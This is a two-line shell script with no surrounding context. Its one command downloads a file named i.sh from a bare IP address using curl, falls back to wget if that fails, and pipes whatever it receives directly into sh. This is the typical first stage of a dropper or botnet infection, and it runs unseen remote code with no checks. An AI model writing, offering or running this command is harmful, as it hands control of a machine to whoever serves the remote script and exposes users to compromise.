#!/bin/sh
(curl -fsSL http://198.51.100.23/i.sh || wget -q -O- http://198.51.100.23/i.sh) | sh
